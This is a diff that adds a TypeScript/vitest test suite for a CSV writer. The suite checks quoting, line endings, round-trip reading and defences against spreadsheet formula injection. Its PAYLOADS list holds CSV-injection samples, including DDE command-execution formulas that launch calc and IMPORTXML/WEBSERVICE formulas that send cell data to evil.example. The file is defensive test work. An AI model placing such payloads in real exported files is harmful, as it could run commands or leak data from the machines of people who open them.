@@ -1,0 +1,103 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { type CsvCell, csvText } from "./csv-text.ts";
+import { readCsv, readCsvAsItStands } from "./read-csv.ts";
+
+describe("a cell of a CSV file", () => {
+  const cases: [what: string, cell: CsvCell, expected: string][] = [
+    ["a plain text stays", "Kidney", "Kidney"],
+    ["a comma is quoted", "a,b", '"a,b"'],
+    ["quotes are doubled", 'say "ah"', '"say ""ah"""'],
+    ["a line break is quoted", "a\nb", '"a\nb"'],
+    ["a carriage return is quoted", "a\rb", '"a\rb"'],
+    ["blanks at the rim are kept", " a ", '" a "'],
+    ["a formula is none", "=1+1", "'=1+1"],
+    ["nor by plus", "+49 30", "'+49 30"],
+    ["nor by minus", "-2+3", "'-2+3"],
+    ["nor by at", "@SUM(A1)", "'@SUM(A1)"],
+    ["nor by a tab before it", "\t=1", "'\t=1"],
+    ["nor by a return before it", "\r=1", "\"'\r'=1\""],
+    ["a formula with a comma is quoted as well", '=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
+    ["a negative number is a number", -2.5, "-2.5"],
+    ["a number that is a text is a number", "-2.5", "-2.5"],
+    ["an apostrophe that was there stays one of its own", "'=1", "''=1"],
+    ["each line of a cell is looked at", "sum\n=1+1", '"sum\n\'=1+1"'],
+    ["nothing", null, ""],
+    ["no number", Number.NaN, ""],
+    ["not finite", Number.POSITIVE_INFINITY, ""],
+    ["µ and umlauts stay", "Präparat, µm", '"Präparat, µm"'],
+  ];
+  for (const [what, cell, expected] of cases) {
+    it(what, () => expect(csvText([[cell]])).toBe(`${expected}\r\n`));
+  }
+});
+
+describe("a CSV file", () => {
+  it("has rows that end in CR LF, and is empty without any", () => {
+    expect(csvText([["a", 1], ["b"]])).toBe("a,1\r\nb\r\n");
+    expect(csvText([])).toBe("");
+  });
+
+  it("is read back as it was written, formulas too", () => {
+    const cell = fc.string({
+      unit: fc.constantFrom("a", ",", '"', "\r", "\n", "=", "-", " ", "ü", "\t", "'", "7", "\u200b"),
+    });
+    fc.assert(
+      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
+        expect(readCsv(csvText(rows))).toEqual(rows);
+      }),
+    );
+  });
+});
+
+/** As spreadsheets are tricked. Source: OWASP, "CSV Injection"; PayloadsAllTheThings, "CSV Injection"; rule D-11. */
+const PAYLOADS = [
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example","Kidney")',
+  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
+  '=WEBSERVICE("https://evil.example")',
+  "+1+1",
+  "+cmd|' /C calc'!A0",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "@A1",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "\r\n=1+1",
+  " =1+1",
+  "   +1+1",
+  "\u00a0=1+1",
+  "\u200b=1+1",
+  "\ufeff=1+1",
+  "\u2060@A1",
+  "\u200d-1+1",
+  "|calc",
+  "%0A=1+1",
+  "\u0000=1+1",
+  "＝1+1",
+  "＋1+1",
+  "－1+1",
+  "＠A1",
+  "harmless\n=1+1",
+  "harmless\r\n+1+1",
+  "harmless\r@A1",
+  "a line\n \u00a0=1+1",
+  "'=1+1",
+  '=1+1",=2+2,"',
+  '=DDE("cmd";"/C calc";"x")',
+];
+
+describe("no cell is a formula", () => {
+  for (const payload of PAYLOADS) {
+    it(`${JSON.stringify(payload)}: nor a line in it, and it is read back as it was`, () => {
+      const text = csvText([["a", payload, "b"]]);
+      const cell = readCsvAsItStands(text)[0]?.[1] ?? "";
+      expect(cell).not.toMatch(/^[\s\u200b-\u200d\u2060\ufeff]*[=+\-@|%＝＋－＠\0]/);
+      expect(cell).not.toMatch(/[\r\n][ \u00a0\u200b-\u200d\u2060\ufeff]*[=+\-@|%＝＋－＠\0]/);
+      expect(readCsv(text)).toEqual([["a", payload, "b"]]);
+    });
+  }
+});
